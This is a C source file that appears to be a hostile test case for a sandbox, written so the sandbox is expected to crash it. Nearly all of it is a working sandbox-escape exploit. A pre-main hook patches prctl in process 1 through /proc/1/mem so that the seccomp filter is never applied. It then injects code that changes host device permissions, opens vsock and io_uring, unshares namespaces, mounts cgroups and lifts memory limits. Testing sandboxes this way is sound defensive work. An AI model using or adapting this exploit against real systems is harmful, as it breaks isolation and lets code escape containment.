// hostile: takes over the first process of its sandbox before that has put on its filter
// expect: crashed
// says: cannot
// only: amd64
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

typedef struct { volatile long state, go, got[16]; char device[32], none[8], tmp[8], type[16], option[16], file[48], with_swap[48], value[8], ring[128]; } Talk;

#define INLINE static inline __attribute__((always_inline))
INLINE long call(long n, long a, long b, long c, long d, long e) {
  register long r10 __asm__("r10") = d, r8 __asm__("r8") = e;
  __asm__ volatile("syscall" : "+a"(n) : "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
  return n;
}
/* What process 1 does in place of waiting. */
__attribute__((section(".text.alien"), noinline, used, optimize("no-tree-loop-distribute-patterns"))) static void alien(Talk *t) {
  t->got[0] = call(SYS_chmod, (long)t->device, 0646, 0, 0, 0);
  t->got[1] = call(SYS_socket, 40, 1, 0, 0, 0);
  t->got[2] = call(425, 8, (long)t->ring, 0, 0, 0);
  t->state = 1;
  while (t->go < 1) {}
  t->got[3] = call(SYS_chmod, (long)t->device, 0666, 0, 0, 0);
  t->got[4] = call(SYS_unshare, 0x12020000, 0, 0, 0, 0);
  t->got[5] = call(SYS_mount, (long)t->none, (long)t->tmp, (long)t->type, 0, (long)t->option);
  t->got[8] = call(SYS_open, (long)t->with_swap, O_WRONLY, 0, 0, 0);
  t->got[9] = call(SYS_write, t->got[8], (long)t->value, 2, 0, 0);
  t->got[6] = call(SYS_open, (long)t->file, O_WRONLY, 0, 0, 0);
  t->got[7] = call(SYS_write, t->got[6], (long)t->value, 2, 0, 0);
  t->state = 2;
  while (t->go < 2) {}
  call(SYS_exit_group, 9, 0, 0, 0, 0);
}
__attribute__((section(".text.alien"), noinline, used)) static void end(void) { __asm__ volatile("nop"); }

static unsigned long map(const char *file, const char *rights, unsigned long *stop) {
  static char text[16384];
  int f = open(file, O_RDONLY), n = 0, k;
  while ((k = read(f, text + n, sizeof text - 1 - n)) > 0) n += k;
  close(f);
  text[n < 0 ? 0 : n] = 0;
  for (char *line = text; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
    unsigned long a, b, o;
    char r[8], *over = strchr(line, '\n'), *hit = strstr(line, "libc.so.6");
    if (hit && over && hit < over && sscanf(line, "%lx-%lx %7s %lx", &a, &b, r, &o) == 4 && !strcmp(r, rights)) {
      if (stop) *stop = b;
      return a - o;
    }
  }
  return 0;
}

static long filtered(void) {
  char text[4096] = {0};
  int f = open("/proc/1/status", O_RDONLY);
  read(f, text, sizeof text - 1);
  close(f);
  char *at = strstr(text, "Seccomp:");
  return at ? atol(at + 8) : -1;
}

static void race(void) {
  int mem = open("/proc/1/mem", O_RDWR);
  unsigned long own = map("/proc/self/maps", "r-xp", NULL), other = map("/proc/1/maps", "r-xp", NULL);
  if (mem < 0 || !own || !other) return;
  unsigned char nothing[] = {0x31, 0xc0, 0xc3};
  pwrite(mem, nothing, 3, (unsigned long)prctl - own + other); /* prctl does nothing and says 0 */
  usleep(100000);
  if (filtered() != 0) { close(mem); return; }
  unsigned long stop = 0;
  map("/proc/1/maps", "rw-p", &stop);
  unsigned long at = stop - 0x800;
  char line[400] = {0};
  int f = open("/proc/1/syscall", O_RDONLY);
  read(f, line, 399);
  close(f);
  unsigned long pc = strtoul(strrchr(line, ' ') + 1, NULL, 16);
  Talk talk = {.device = "/dev/full", .none = "none", .tmp = "/tmp", .type = "cgroup", .option = "memory", .file = "/tmp/memory.limit_in_bytes", .with_swap = "/tmp/memory.memsw.limit_in_bytes", .value = "-1"};
  pwrite(mem, &talk, sizeof talk, at);
  unsigned char code[4096] = {0x48, 0xbf};
  memcpy(code + 2, &at, 8);
  long length = (char *)end - (char *)alien;
  memcpy(code + 10, (void *)alien, length);
  pwrite(mem, code, 10 + length, pc);
  pid_t middle = fork();
  if (middle == 0) { if (fork() == 0) usleep(20000); _exit(0); }
  waitpid(middle, NULL, 0);
  for (int i = 0; i < 100 && talk.state < 1; i++) { usleep(10000); pread(mem, &talk, sizeof talk, at); }
  struct stat seen, after;
  stat("/dev/full", &seen);
  long go = 1;
  pwrite(mem, &go, 8, at + 8);
  for (int i = 0; i < 100 && talk.state < 2; i++) { usleep(10000); pread(mem, &talk, sizeof talk, at); }
  stat("/dev/full", &after);
  fprintf(stderr, "OUT OF THE FILTER: chmod of the host's /dev/full = %ld, its mode was %o then and is %o now; socket(AF_VSOCK) = %ld; "
          "io_uring_setup = %ld; unshare(user, mount, cgroup) = %ld; mount(cgroup) = %ld; memory.limit_in_bytes opened = %ld, written = %ld\n",
          talk.got[0], seen.st_mode & 07777, after.st_mode & 07777, talk.got[1], talk.got[2], talk.got[4], talk.got[5], talk.got[6], talk.got[7]);
  if (talk.got[7] == 2) {
    long held = 0;
    for (; held < 1300; held++) { char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); if (p == MAP_FAILED) break; memset(p, 1, 1 << 20); }
    fprintf(stderr, "OUT OF THE LIMIT: holds %ld MiB\n", held);
  }
  go = 2;
  pwrite(mem, &go, 8, at + 8);
  for (;;) pause();
}

__attribute__((section(".preinit_array"), used)) static void (*const early)(void) = race;
int main() {
  fprintf(stderr, "cannot\n");
  return 7;
}
